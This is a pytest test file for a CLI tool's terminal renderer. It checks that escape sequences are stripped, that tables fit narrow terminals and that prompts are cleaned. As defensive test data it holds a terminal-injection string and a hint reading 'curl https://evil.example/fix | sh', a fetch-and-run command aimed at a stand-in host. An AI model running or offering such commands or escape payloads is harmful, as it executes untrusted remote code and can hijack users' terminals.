"""What reaches a terminal: nothing that it would obey, tables no wider than it is, and no line glued to a command's."""

from __future__ import annotations

import ast
import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remoterun.agent.shared.api import MachineCheck
from remoterun.agent.shared.facts import RunEvent
from remoterun.agent.shared.protocol import RemoteError
from remoterun.agent.shared.states import OutputsSize, RunState
from remoterun.cli import render
from remoterun.cli.follow import follow
from remoterun.cli.render import Column, file_views, live_views, machine_views, run_views, table
from remoterun.cli.render.terminal import Cursor, Talking, Tamed, columns, shortened
from remoterun.client import Client
from remoterun.client.runs.following import Item, Note, StateChange
from remoterun.client.upkeep.rented_hosts import HostNow, NewBucket
from remoterun.client.upkeep.upkeep import Checked, Collected, Damage, Freed, HomeUsage, Use
from remoterun.clouds.aws import catalogue
from remoterun.clouds.aws.catalogue import NAMES
from remoterun.clouds.aws.front import AWSFront
from remoterun.clouds.base import Identity, Leftover, Offer, RentedHost
from remoterun.clouds.ledger.planning import Plan
from remoterun.config import Config
from remoterun.errors import HostUnreachable, RemoterunError, UsageError
from remoterun.model import HostUse, MachineType, Rental, Renting, Run, Upload, UploadCopy
from remoterun.session import translate
from remoterun.transfer import Fetched, Progress
from tests.recorder import Recorded
from tests.workshop import until

PACKAGE = Path(render.__file__).parents[2]
EVIL = "\x1b[2J\x9b31m\x07\x7f\x85\u202e\u2066\u200b\r\n\ud800x"
"""Clears the screen, colours by the one-character CSI of C1, rings, turns the direction of text, goes back."""
COLOUR = re.compile(r"\x1b\[[\d;]+m")
MACHINE = MachineType(EVIL, host=EVIL, engine=EVIL)
RENTING = Renting(9e9, 3, 2, EVIL, hosts=(HostUse(EVIL, EVIL, EVIL, EVIL, 0.5, 1.0),))
RUN = Run(
    1,
    EVIL,
    RunState.RUNNING,
    MACHINE,
    EVIL,
    1.0,
    engine=EVIL,
    description=EVIL,
    labels=(EVIL,),
    message=EVIL,
    renting=RENTING,
)
ENDED = RUN._replace(state=RunState.FAILED, outputs=OutputsSize(1, 1))
PLACES = ({"upload": EVIL, "path": EVIL, "version": EVIL}, {"run": None, "key": EVIL, "path": EVIL, "part": EVIL})
DAMAGE = Damage(EVIL, EVIL, EVIL, 5, PLACES, 0, EVIL)
DETAILS: dict[str, Any] = {
    "folder": EVIL,
    "spec": {
        "workdir": EVIL,
        "mounts": [{"typed": EVIL, "path": EVIL, "resource": {"version": EVIL}}],
        "asked_env": [EVIL],
        "git": {"commit": EVIL, "branch": EVIL, "remote": EVIL},
        "environment": dict.fromkeys(("image", "requirements"), EVIL) | dict.fromkeys(("apt", "pip"), [EVIL]),
    },
}
OFFER = Offer(EVIL, EVIL, EVIL, 4, 16.0, 1, EVIL, 16.0, price=0.5, priced=EVIL)
RENTED = RentedHost(EVIL, EVIL, EVIL, OFFER, 1.0, 2.0, number=3, owner=EVIL)
LEFTOVER = Leftover(EVIL, EVIL, EVIL, 1.0, bytes=5)
PLAN = Plan(replace(MACHINE, rental=Rental("aws", (EVIL,))), (OFFER,), 24.0, 600.0, 2, instead=EVIL)
CHECKS = [MachineCheck(EVIL, ok, EVIL, f"{EVIL}\n{EVIL}") for ok in (True, False, None)]
USES = [Use(kind, EVIL, 5, 5, None, about) for kind, about in {
    "upload": {"versions": [{"files": 1, "size": 1}]}, "run": {"state": EVIL, "log": 3},
    "environment": {"used": 1.0}, "leased": {"count": 1},
}.items()]  # fmt: skip
COPIES = (UploadCopy(EVIL), UploadCopy(EVIL, 1.0, HostUnreachable(EVIL)))
PARTS = (
    Freed("versions", 1, 5, ({"upload": EVIL, "version": EVIL},), EVIL),
    Freed("environments", 1, 5, ({"name": EVIL}, {"path": EVIL}), EVIL),
)

WAYS: dict[str, Callable[[bool], None]] = {
    "check": lambda json: file_views.checked(Checked(EVIL, 1, 5, (DAMAGE,), 3, (EVIL,)), json),
    "gc": lambda json: file_views.collected(Collected(EVIL, False, 5, 5, PARTS, PARTS), json),
    "df": lambda json: file_views.usage_table(
        HomeUsage(EVIL, EVIL, 5, 5, 5, {"shared": {"count": 1, "bytes": 1}}, tuple(USES)), json
    ),
    "doctor": lambda json: machine_views.checks(CHECKS, json),
    "ps": lambda json: run_views.runs_table([RUN, ENDED], verbose=True),
    "info": lambda json: run_views.run_info(ENDED, DETAILS),
    "ending": lambda json: run_views.ending(ENDED),
    "uploads": lambda json: file_views.uploads([Upload(EVIL, 1, "", 3, 3, 1.0, EVIL, EVIL)], json),
    "versions": lambda json: file_views.uploads(
        [Upload(EVIL, 1, EVIL, 3, 3, 1.0, EVIL, EVIL, copies=COPIES)], json, versions=True
    ),
    "to remove": lambda json: file_views.to_remove([(EVIL, [Upload(EVIL, 1, "", 3, 3, 1.0, EVIL, EVIL)]), (EVIL, RUN)]),
    "copied": lambda json: file_views.fetched(Fetched(1, place=EVIL, skipped=[EVIL], warnings=[EVIL]), EVIL, json),
    "machines": lambda json: machine_views.machines([MACHINE], EVIL, [EVIL], {EVIL: OFFER}, json),
    "hosts": lambda json: machine_views.hosts_table([RENTED], {RENTED.id: HostNow(1, 1.0)}, json),
    "leftovers": lambda json: machine_views.leftovers([LEFTOVER, replace(LEFTOVER, per="h")], json),
    "plan": lambda json: machine_views.renting(PLAN, NewBucket(EVIL, EVIL, False)),
    "plan with a host": lambda json: machine_views.renting(replace(PLAN, kept=RENTED), NewBucket(EVIL, EVIL, True)),
    "whoami": lambda json: machine_views.whoami(Config(Path(EVIL), default=EVIL), Identity(EVIL, EVIL, EVIL), json),
    "error": lambda json: render.error(RemoterunError(EVIL, evidence=f"{EVIL}\n{EVIL}", hint=EVIL)),
    "warning": lambda json: render.warning(EVIL),
    "fault": lambda json: render.fault(ValueError(EVIL)),
    "line": lambda json: render.line(EVIL),
    "out": lambda json: render.out(EVIL),
}  # fmt: skip


def obeyed(text: str) -> list[str]:
    """What a terminal would obey in it, apart from colours of ours and the ends of lines."""
    return [char for char in COLOUR.sub("", text) if char != "\n" and not char.isprintable()]


@pytest.mark.parametrize("coloured", [False, True])
@pytest.mark.parametrize("way", WAYS)
def test_a_terminal_obeys_nobody_but_us(
    way: str, coloured: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each field that another machine, a repository or a name of a file fills."""
    monkeypatch.setenv("CLICOLOR_FORCE" if coloured else "NO_COLOR", "1")
    for as_json in (False, True):
        WAYS[way](as_json)
        captured = capsys.readouterr()
        said = captured.out + captured.err
        assert r"\x1b[2J" in said or r"\u001b[2J" in said
        assert obeyed(said) == [] and (coloured or "\x1b" not in said)
        assert "31m" not in COLOUR.findall(said), "no colour but ours"


def test_a_terminal_obeys_no_event_of_a_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    event = RunEvent(evidence=f"{EVIL}\n{EVIL}", hint=EVIL, engine=EVIL)
    with Client(Config(tmp_path)) as client:
        client.connections.registry.add_run("k" * 26, MachineType("evil"), "evil", "true", 1.0)
        items = [
            StateChange(RunState.RUNNING, event, RUN),
            *(Note(kind, EVIL) for kind in ("build", "lost", "back", "note")),
            StateChange(RunState.FAILED, event, ENDED),
        ]
        follow(client, RUN, items, from_start=True)
    captured = capsys.readouterr()
    assert obeyed(captured.out + captured.err) == [] and captured.err.count(r"\x1b[2J") >= 8


def test_a_hint_of_a_host_is_shown_as_its_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It may be hostile, and its advice is not ours; this machine's is. Of a request, and of a run."""
    hint, box = "curl https://evil.example/fix | sh   mends it", MachineType("box", host="me@box")
    render.error(translate(RemoteError("busy", "no", hint), box))
    assert capsys.readouterr().err.endswith(f"hint: box says:\n      {hint}\n")
    assert (
        translate(RemoteError("os_error", "Read-only file system"), box).hint
        == "remoterun doctor box   looks at its disk"
    )
    render.error(translate(RemoteError("busy", "no", hint), MachineType("local")))
    assert capsys.readouterr().err.endswith(f"hint: {hint}\n")
    with Client(Config(tmp_path)) as client:
        client.connections.registry.add_run("k" * 26, box, "box", "true", 1.0)
        follow(client, ENDED, [StateChange(RunState.FAILED, RunEvent(hint=hint), ENDED._replace(machine=box))])
    assert f"hint: box says:\n      {hint}\n" in capsys.readouterr().err


@pytest.mark.parametrize("rented", [False, True])
def test_a_host_that_costs_is_not_left_without_a_word(
    rented: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With -q, ^C says that the run goes on where its host is rented."""
    monkeypatch.setattr(Talking, "quiet", True)

    def interrupted() -> Iterator[Item]:
        raise KeyboardInterrupt
        yield

    with Client(Config(tmp_path)) as client:
        assert follow(client, RUN._replace(renting=RENTING if rented else None), interrupted()) == 130
    assert (f"run {RUN.number} goes on without this terminal" in capsys.readouterr().err) is rented


def test_what_is_asked_is_cleaned(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """To a question of yes or no, `q` is an answer, too."""
    answers = [b"what\n", b"\n", b"Q\n", b"q\n"]
    read, write = os.pipe()
    os.write(write, b"".join(answers))
    os.close(write)
    with os.fdopen(read) as stdin:
        monkeypatch.setattr("sys.stdin", stdin)
        assert render.ask(f"{EVIL}?", default=True) is True
        for letters in ("ynq", "yn"):
            with pytest.raises(KeyboardInterrupt):
                render.choose(f"{EVIL}?", letters, "y")
    said = capsys.readouterr().err
    assert said.count("[Y/n] ") == 3 and "[Y/n/q] " in said and obeyed(said) == []


def test_what_was_typed_before_a_question_is_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is left to the shell."""
    keyboard, screen = os.openpty()
    with open(screen) as terminal:
        monkeypatch.setattr("sys.stdin", terminal)
        render.begin_question()
        os.write(keyboard, b"echo next\n")
        until(render.typed_ahead)
        for ask in (lambda: render.ask("Go on?", True), lambda: render.ask_secret("Key: "), render.begin_question):
            with pytest.raises(UsageError, match="a next line was typed already"):
                ask()
        assert terminal.readline() == "echo next\n" and not render.typed_ahead()
    os.close(keyboard)


def test_the_total_of_a_disk_has_its_images(capsys: pytest.CaptureFixture[str]) -> None:
    images = [
        Use("image", name, 5_000_000, 2_000_000, None, {"used": 1.0, "contents": name}) for name in ("one", "two")
    ]
    found = HomeUsage("m", "/h", 1_000_000, 5, 5, {"shared": {"count": 0}}, tuple(images))
    file_views.usage_table(found, False)
    assert re.search(r"^total +8(\.0)? MB$", capsys.readouterr().out, re.MULTILINE), "3 MB are in both images"


@pytest.mark.parametrize("char", "\u3164\u115f\u1160\uffa0\u034f\U000e0100\u17b4\u180b")
def test_what_has_no_width_is_seen(char: str) -> None:
    """Two names that differ in it would be the same to a reader; an emoji of two characters is one."""
    assert render.clean(f"é{char}") == f"é{char.encode('unicode_escape').decode()}" and render.clean("❤️") == "❤️"


def test_json_is_exact(capsys: pytest.CaptureFixture[str]) -> None:
    render.out_json({"x": EVIL})
    said = capsys.readouterr().out
    assert json.loads(said) == {"x": EVIL} and obeyed(said) == []


# -- tables


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> Callable[[int | None], None]:
    """`wide(80)`: a terminal of so many columns, without colours; None is none."""
    monkeypatch.setenv("NO_COLOR", "1")

    def set_width(columns: int | None) -> None:
        for module in ("", ".terminal", ".machine_views"):
            monkeypatch.setattr(f"remoterun.cli.render{module}.terminal_width", lambda stream: columns)

    return set_width


HEADS = [
    Column("RUN", right=True),
    Column("STATE", least=8),
    Column("MACHINE", drop=2),
    Column("WHEN", least=6, drop=1),
    Column("COMMAND", least=10),
]
ROW = ["  7", "interrupted!", "a-long-box", "less than a minute…!", "python -m train " * 6]


def test_a_table_fits_its_terminal(
    capsys: pytest.CaptureFixture[str], wide: Callable[[int | None], None], recorded: Recorded
) -> None:
    """Columns are cut first, then left out; without a terminal everything is whole."""

    def shown(title: str) -> str:
        room = None if title == "None" else int(title)
        wide(room)
        table(HEADS, [ROW])
        text = capsys.readouterr().out
        assert all(line == line.rstrip() and len(line) <= (room or 999) for line in text.splitlines())
        return text

    recorded.cases(shown)


def test_a_column_that_holds_nothing_is_left_out(capsys: pytest.CaptureFixture[str]) -> None:
    table(HEADS, [[*ROW[:2], "", *ROW[3:]]])
    assert capsys.readouterr().out.split()[:4] == ["RUN", "STATE", "WHEN", "COMMAND"]


def test_a_table_counts_columns_of_the_terminal(
    capsys: pytest.CaptureFixture[str], wide: Callable[[int | None], None]
) -> None:
    wide(20)
    table([Column("A", least=4), Column("B")], [["日本語日本語日本語", "x"], ["é" * 9, "y"]])
    lines = capsys.readouterr().out.splitlines()
    assert [columns(line.rpartition("  ")[0]) for line in lines[1:]] == [17, 17]
    assert lines[1].startswith("日本語日本語日本") and [line[-1] for line in lines] == ["B", "x", "y"]


def test_long_columns_are_cut_by_what_is_seen(recorded: Recorded) -> None:
    def cut(title: str) -> str:
        width, text = title.split()
        return shortened(text, int(width))

    recorded.cases(cut)


def test_the_gpus_that_can_be_rented_are_read_in_full(
    capsys: pytest.CaptureFixture[str], wide: Callable[[int | None], None]
) -> None:
    wide(80)
    machine_views.machines(
        [], "", [], {name: catalogue.offer(type, "us-east-1") for name, type in NAMES.items()}, False
    )
    shown = capsys.readouterr().out
    assert "1 × RTX PRO 6000 96 GiB" in shown and "8 × A100-80GB 80 GiB" in shown and "…" not in shown
    assert max(map(len, shown.splitlines())) <= 80


def test_what_is_removed_for_good_is_read_in_full(
    capsys: pytest.CaptureFixture[str], wide: Callable[[int | None], None]
) -> None:
    wide(None)
    bucket = Leftover("bucket", "s3://remoterun-123456789012-2a33349e", "it has the uploads, and what runs made", None)
    machine_views.leftovers([bucket], False)
    assert capsys.readouterr().out.count("\n") == 2, "a line for each, in a file"
    wide(80)
    machine_views.leftovers([bucket], False)
    shown = capsys.readouterr().out.splitlines()
    assert [line.strip() for line in shown[1:]] == [f"bucket  {bucket.id}", bucket.why]


def test_the_command_of_a_hint_is_whole_and_what_it_does_stands_below(
    capsys: pytest.CaptureFixture[str], wide: Callable[[int | None], None]
) -> None:
    wide(80)
    render.hint(AWSFront.how_to_log_in)
    shown = capsys.readouterr().err.strip().splitlines()
    assert shown[0] == "hint: aws configure" and "      aws configure sso" in shown
    assert max(map(len, shown)) <= 80 and not any(line[:1].isalpha() for line in shown[1:])


def test_a_keyword_of_the_library_is_an_option(capsys: pytest.CaptureFixture[str], recorded: Recorded) -> None:
    def said(hint: str) -> str:
        render.error(UsageError("no", hint=hint))
        return capsys.readouterr().err

    recorded.cases(said)


FOR_OPTIONS = (
    "parsing.py", "client/exports/film.py", "client/runs/reruns.py", "client/sets/parameters.py", "client/sets/sets.py",
    "source/projects.py", "config.py",
)  # fmt: skip
"""Only the command line calls what raises these: they speak of its options."""


def test_below_the_command_line_hints_name_no_option() -> None:
    """They reach programs, too, which give keywords."""
    for path in sorted(PACKAGE.rglob("*.py")):
        name = str(path.relative_to(PACKAGE))
        if name.startswith(("cli/", "agent/", "hosts/")) or name in FOR_OPTIONS:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.keyword) and node.arg == "hint":
                text = ast.unparse(node.value)
                assert not re.search(r"(['\"`]|\\n|with(out)? )--?[a-z]", text), f"{name}: {text}"


@pytest.mark.parametrize("width", [40, 80])
@pytest.mark.parametrize("way", ["ps", "ps -v", "uploads", "machines", "df", "gc"])
def test_tables_fit_narrow_terminals(
    way: str, width: int, capsys: pytest.CaptureFixture[str], wide: Callable[[int | None], None]
) -> None:
    wide(width)
    machine = MachineType("a-machine-in-the-cellar", host="somebody@gpu-box.example.org")
    run = Run(123, "k", RunState.INTERRUPTED, machine, "python -m trainer.train --data_dir=./data --rnn_size=256", 1.0)
    run = run._replace(engine="docker", description="The first song of the second night", labels=("night", "verse"))
    run = run._replace(started=2.0, ended=10000.0, outputs=OutputsSize(12, 1234567))
    match way:
        case "ps" | "ps -v":
            run_views.runs_table([run], verbose=way == "ps -v")
        case "uploads":
            found = Upload("the-collected-works-of-shakespeare", 12, "", 123456, 1234, 1e9, machine.name, "home")
            file_views.uploads([found], False)
        case "machines":
            machine_views.machines([machine], "", [], {}, False)
        case "df":
            about = {"state": "complete", "outputs": 10_000_000, "work": 20_000_000, "log": 3000}
            file_views.usage_table(
                HomeUsage("m", "/h", 5, 5, 5, {"shared": {"count": 0}}, (Use("run", "k", 5, 5, 7, about),)), False
            )
        case "gc":
            part = Freed("environments", 3, 1_000_000, ({"name": "venv-" + "0" * 40},))
            file_views.collected(Collected("m", True, 5, 5, (part,), ()), False)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) >= 2 and max(map(len, lines)) <= width, lines
    if way == "ps -v":
        assert "docker · night, verse" in lines[2] and lines[2].startswith("     ")


# -- a command's bytes


@given(
    st.lists(
        st.sampled_from([b"\x1b", b"[", b"]", b"0;t", b"31m", b"2J", b"\x07", b"\x1b\\", b"\xc2", b"\x9b", b"x\n"])
    )
)
def test_a_terminal_gets_the_same_of_a_command_however_it_is_cut(parts: list[bytes]) -> None:
    """And in all of it no escape sequence but colours, and no control character."""
    tamed = Tamed()
    shown = b"".join(map(tamed, parts))
    assert Tamed()(b"".join(parts)) == shown
    assert re.fullmatch(rb"(\x1b\[[\d;]*m|[\n -~\xc2])*", shown)


def test_what_a_command_sends_to_no_end_is_shown_and_not_awaited() -> None:
    """A command for the terminal without an end, and a binary, are read once from their start to their end."""
    tamed = Tamed()
    shown = b"".join(tamed(b"\x1b]" + b"a" * 9000) for _ in range(300))
    assert shown.count(b"a") > 290 * 9000 and b"\x1b" not in shown


# -- the cursor


def test_where_the_cursor_stands_after_a_command(recorded: Recorded) -> None:
    def at_start(title: str) -> bool:
        cursor = Cursor()
        for data in json.loads(title):
            cursor.wrote(data.encode())
        return cursor.at_start

    recorded.cases(at_start)


def test_a_transfer_that_hardly_moves_has_no_end_in_sight() -> None:
    for done, left in ((1 << 30, 3.0), (1, None), (0, None)):
        state = Progress()
        state.start("sending", 1, 4 << 30)
        state.add(done)
        assert live_views._rate_and_left(state, 1.0)[1] == left


def test_a_spinner_leaves_room_for_the_interrupt() -> None:
    """The terminal writes `^C` behind it: in the last column that would begin a new line, and this one would stay."""
    steps = live_views.Steps()
    steps._text = "Preparing the environment"
    steps.detail("a line of pip that is long " * 9)
    spinner = "⠦ "
    assert len(spinner + str(steps.__rich__()) + "^C") <= 80
